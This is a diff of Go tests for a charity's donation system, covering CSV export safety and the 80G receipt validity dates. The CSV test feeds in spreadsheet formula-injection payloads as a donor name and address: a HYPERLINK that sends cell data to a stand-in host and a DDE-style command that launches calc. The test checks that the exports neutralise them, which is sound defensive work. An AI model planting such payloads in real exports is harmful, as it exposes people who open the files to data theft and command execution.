@@ -13,6 +13,7 @@ import (
 	"time"
 
 	"spdc/internal/config"
+	"spdc/internal/csvout"
 	"spdc/internal/mail"
 	"spdc/internal/outbox/outboxtest"
 	"spdc/internal/secret"
@@ -42,6 +43,7 @@ func newDonationEnv(t *testing.T, st *store.Store) (*formsEnv, *secret.Key) {
 		t.Fatal(err)
 	}
 	doc["orgName"], doc["receiptPrefix"], doc["trustPan"] = "SPDC Trust", "SPDC", "AAATS1234C"
+	doc["trustLegalName"] = "Sri Prabhupada Disciples Care Trust"
 	doc["addressLines"] = []string{"1 Temple Road", "Vrindavan 281121"}
 	doc["reg80G"] = map[string]any{"number": "AAATS1234CF20211", "date": "2021-05-28", "validUntil": "2026-03-31"}
 	doc["signatory"] = map[string]any{"name": "Ramesh Kumar", "title": "Trustee"}
@@ -405,6 +407,121 @@ func TestDonationStatement(t *testing.T) {
 		}
 		if r := e.call("GET", "/api/admin/donations/statement?fy=2026-27", nil, admin2); r.Body["form"] != "113" || r.Body["rows"] != float64(0) {
 			t.Fatalf("2026-27: %s", r.Raw)
+		}
+	})
+}
+
+// TestDonationCSVsRunNoFormula confirms a gift from a donor named as a
+// spreadsheet formula, with an address that is one too, and reads the
+// annual statement and the donations export: the name and address are
+// written as text (a leading apostrophe), the amount stays a number.
+func TestDonationCSVsRunNoFormula(t *testing.T) {
+	storetest.Run(t, func(t *testing.T, st *store.Store) {
+		e, _ := newDonationEnv(t, st)
+		admin, _ := e.user("admin@spdc.example.org", true)
+		p := validDonation()
+		name, address := `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "@SUM(1+1)*cmd|' /C calc'!A0"
+		p["donorName"], p["address"], p["amount"] = name, address, "1500"
+		r := e.call("POST", "/api/donations", p, "")
+		if r.Status != 201 {
+			t.Fatalf("report: %s", r.Raw)
+		}
+		id := r.Body["donation"].(map[string]any)["_id"].(string)
+		if r := e.call("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": "2025-02-21", "amount": "1500"}, admin); r.Status != 200 {
+			t.Fatalf("confirm: %s", r.Raw)
+		}
+		read := func(path string) [][]string {
+			r := e.call("GET", path, nil, admin)
+			cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Raw, "\uFEFF")))
+			cr.FieldsPerRecord = -1
+			rows, err := cr.ReadAll()
+			if r.Status != 200 || err != nil || len(rows) < 2 {
+				t.Fatalf("%s: %d %v\n%s", path, r.Status, err, r.Raw)
+			}
+			for _, row := range rows {
+				for _, cell := range row {
+					if csvout.Cell(cell) != cell {
+						t.Errorf("%s: cell %q would run as a formula", path, cell)
+					}
+				}
+			}
+			return rows
+		}
+		rows := read("/api/admin/donations/statement.csv?fy=2024-25")
+		if got := rows[1]; got[7] != "'"+name || got[8] != "'"+address || got[11] != "1500" {
+			t.Errorf("statement row %q", got)
+		}
+		rows = read("/api/admin/donations/export.csv")
+		found := 0
+		for _, cell := range rows[1] {
+			if cell == "'"+name || cell == "'"+address {
+				found++
+			}
+		}
+		if found != 2 {
+			t.Errorf("export row %q lacks the neutralised name and address", rows[1])
+		}
+	})
+}
+
+// TestReceiptAllowedOnTheDayReceived confirms gifts against the trust's
+// 80G approval (28 May 2021 to 31 March 2026): an 80G gift received after
+// the validity, or before the approval, is refused with a 400 naming
+// receivedOn (in Hindi too), takes no receipt number and stays reported; a
+// General receipt for the same day is issued; an 80G gift inside the
+// validity is issued.
+func TestReceiptAllowedOnTheDayReceived(t *testing.T) {
+	storetest.Run(t, func(t *testing.T, st *store.Store) {
+		e, _ := newDonationEnv(t, st)
+		e.clock = time.Date(2026, 4, 10, 9, 0, 0, 0, time.UTC)
+		admin, _ := e.user("admin@spdc.example.org", true)
+		n := 0
+		report := func(receipt, paidOn string) string {
+			n++
+			p := validDonation()
+			p["receiptType"], p["paidOn"], p["reference"] = receipt, paidOn, fmt.Sprintf("41234567%04d", n)
+			r := e.call("POST", "/api/donations", p, "")
+			if r.Status != 201 {
+				t.Fatalf("report: %s", r.Raw)
+			}
+			return r.Body["donation"].(map[string]any)["_id"].(string)
+		}
+		confirm := func(id, receivedOn, lang string) formsResp {
+			return e.callWith("POST", "/api/admin/donations/"+id+"/confirm", map[string]any{"receivedOn": receivedOn, "amount": "5000.50"}, admin,
+				map[string]string{"Accept-Language": lang})
+		}
+		receipts := func() int {
+			var k int
+			if err := st.Reader().QueryRowContext(t.Context(), `SELECT COUNT(*) FROM donations WHERE receipt_number IS NOT NULL AND receipt_number <> ''`).Scan(&k); err != nil {
+				t.Fatal(err)
+			}
+			return k
+		}
+		after := report("80G", "2026-04-01")
+		r := confirm(after, "2026-04-02", "en")
+		if r.Status != 400 || !strings.Contains(fmt.Sprint(r.fieldErrors()["receivedOn"]), "after the trust's 80G approval ended") {
+			t.Fatalf("80G after the validity: %d %s", r.Status, r.Raw)
+		}
+		if r := confirm(after, "2026-04-02", "hi"); r.Status != 400 || !strings.Contains(fmt.Sprint(r.fieldErrors()["receivedOn"]), "स्वीकृति ख़त्म होने के बाद") {
+			t.Fatalf("in Hindi: %d %s", r.Status, r.Raw)
+		}
+		before := report("80G", "2021-05-01")
+		if r := confirm(before, "2021-05-03", "en"); r.Status != 400 || !strings.Contains(fmt.Sprint(r.fieldErrors()["receivedOn"]), "before the trust's 80G approval") {
+			t.Fatalf("80G before the approval: %d %s", r.Status, r.Raw)
+		}
+		if k := receipts(); k != 0 {
+			t.Fatalf("a refused confirmation issued %d receipts", k)
+		}
+		general := report("General", "2026-04-01")
+		if r := confirm(general, "2026-04-02", "en"); r.Status != 200 {
+			t.Fatalf("General after the validity: %d %s", r.Status, r.Raw)
+		}
+		inside := report("80G", "2026-03-30")
+		if r := confirm(inside, "2026-03-31", "en"); r.Status != 200 {
+			t.Fatalf("80G on the last day of the validity: %d %s", r.Status, r.Raw)
+		}
+		if k := receipts(); k != 2 {
+			t.Fatalf("%d receipts, want 2", k)
 		}
 	})
 }
